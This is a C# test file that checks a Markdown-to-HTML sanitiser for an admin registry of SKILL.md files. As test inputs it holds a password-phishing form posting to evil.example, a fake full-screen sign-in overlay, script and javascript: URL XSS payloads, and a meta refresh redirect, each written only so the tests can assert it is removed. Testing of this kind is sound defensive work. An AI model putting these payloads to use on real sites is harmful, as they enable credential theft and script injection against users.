using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using SelfTune.Admin.Registry;

namespace SelfTune.Admin.Tests.Registry;

/// <summary>
/// Issue 8 item 8: a rendered SKILL.md keeps only what Markdown produces. Phishing markup (a form posting a password
/// elsewhere, a full-screen fixed overlay, the app's own CSS classes) must not survive.
/// </summary>
public class SkillMarkdownRendererTests
{
    static IDocument Render(string markdown)
    {
        var html = SkillMarkdownRenderer.ToSafeHtml(markdown);
        return new HtmlParser().ParseDocument($"<html><body>{html}</body></html>");
    }

    [Fact]
    public void A_form_posting_a_password_to_another_site_is_removed_with_its_fields()
    {
        var doc = Render("""
            # Sign in again

            <form action="https://evil.example/collect" method="post">
              <label>Password <input type="password" name="password"></label>
              <input type="hidden" name="org" value="acme">
              <button type="submit">Continue</button>
              <select name="x"><option>a</option></select><textarea name="y"></textarea>
            </form>

            Text after the form stays.
            """);

        foreach (var tag in new[] { "form", "input", "button", "select", "textarea", "label" })
            Assert.Empty(doc.QuerySelectorAll(tag));
        Assert.DoesNotContain("evil.example", doc.Body!.InnerHtml);
        Assert.Contains("Text after the form stays.", doc.Body.TextContent);
    }

    [Fact]
    public void A_full_screen_fixed_overlay_is_removed_whether_by_style_attribute_style_element_or_the_apps_classes()
    {
        var doc = Render("""
            <div style="position:fixed;inset:0;z-index:99999;background:white">Your session expired. <a href="https://evil.example/login">Sign in</a></div>

            <style>.mud-main-content { display: none } body::after { content: ''; position: fixed; inset: 0 }</style>

            <div class="mud-overlay mud-overlay-dark selftune-page-header">borrowed classes</div>

            ::: mud-dialog
            a custom container
            :::

            ## A heading {style="position:fixed;top:0" .mud-popover}
            """);

        Assert.Empty(doc.QuerySelectorAll("style"));
        Assert.Empty(doc.QuerySelectorAll("[style]"));
        Assert.Empty(doc.QuerySelectorAll("[class]"));
        Assert.DoesNotContain("position", doc.Body!.InnerHtml);
        Assert.DoesNotContain("mud-", doc.Body.InnerHtml);
        Assert.Contains("borrowed classes", doc.Body.TextContent);
        Assert.Equal("A heading", doc.QuerySelector("h2")!.TextContent.Trim());
        // The link inside the overlay is still a plain, marked, same-tab link.
        var link = doc.QuerySelector("a")!;
        Assert.Equal("noopener nofollow ugc", link.GetAttribute("rel"));
        Assert.Null(link.GetAttribute("target"));
    }

    [Fact]
    public void Frames_objects_and_scripts_are_removed_and_only_web_urls_survive()
    {
        var doc = Render("""
            <iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><script>alert(1)</script>
            <svg><a href="javascript:alert(1)">svg</a></svg><meta http-equiv="refresh" content="0;url=https://evil.example">

            [js](javascript:alert(1)) [data](data:text/html,hi) [relative](/settings/api-keys) [file](scripts/run.py)
            <a href="https://example.com" target="_blank" onclick="alert(1)">ok</a> [mail](mailto:team@example.com) [top](#usage)

            ![remote](https://example.com/a.png) ![local](/downloads/registry/x) ![data](data:image/png;base64,AAAA)
            """);

        foreach (var tag in new[] { "iframe", "object", "embed", "script", "svg", "meta" })
            Assert.Empty(doc.QuerySelectorAll(tag));
        var hrefs = doc.QuerySelectorAll("a[href]").Select(a => a.GetAttribute("href")).ToList();
        Assert.Equal(["https://example.com", "mailto:team@example.com", "#skill-usage"], hrefs);
        Assert.All(doc.QuerySelectorAll("a[href^=http], a[href^=mailto]"), a => Assert.Equal("noopener nofollow ugc", a.GetAttribute("rel")));
        Assert.Empty(doc.QuerySelectorAll("[target], [onclick]"));
        Assert.Equal(["https://example.com/a.png"], doc.QuerySelectorAll("img[src]").Select(i => i.GetAttribute("src")));
    }

    [Fact]
    public void A_normal_skill_still_renders_headings_tables_code_lists_and_quotes()
    {
        var doc = Render("""
            ---
            name: pdf-tools
            description: Extract text from PDF files.
            ---
            # PDF tools

            ## Usage

            Run it with **care**, _style_ and ~~old~~ `inline code`. See [the docs](https://example.com/docs) or [below](#options).

            | Option | Default |
            | ------ | ------: |
            | `--pages` | all |

            ```python
            print("hello")
            ```

            1. first
            2. second

            > quoted

            ---

            <details><summary>More</summary>Hidden detail</details>
            """);

        Assert.Equal("PDF tools", doc.QuerySelector("h1")!.TextContent);
        Assert.Equal("skill-usage", doc.QuerySelector("h2")!.Id); // prefixed: never clashes with the page's ids
        Assert.DoesNotContain("name: pdf-tools", doc.Body!.TextContent); // front matter is not shown
        Assert.Equal(["Option", "Default"], doc.QuerySelectorAll("table th").Select(th => th.TextContent));
        Assert.Equal("all", doc.QuerySelectorAll("table td")[1].TextContent);
        var code = doc.QuerySelector("pre > code")!;
        Assert.Equal("language-python", code.ClassName); // Markdig's language class is the one class kept
        Assert.Contains("print(\"hello\")", code.TextContent);
        Assert.Equal(2, doc.QuerySelectorAll("ol > li").Length);
        Assert.NotNull(doc.QuerySelector("blockquote"));
        Assert.NotNull(doc.QuerySelector("hr"));
        Assert.NotNull(doc.QuerySelector("strong"));
        Assert.NotNull(doc.QuerySelector("em"));
        Assert.NotNull(doc.QuerySelector("del"));
        Assert.NotNull(doc.QuerySelector("details > summary"));
        Assert.Equal("https://example.com/docs", doc.QuerySelector("a[rel]")!.GetAttribute("href"));
        Assert.Equal("#skill-options", doc.QuerySelectorAll("a")[1].GetAttribute("href"));
    }
}
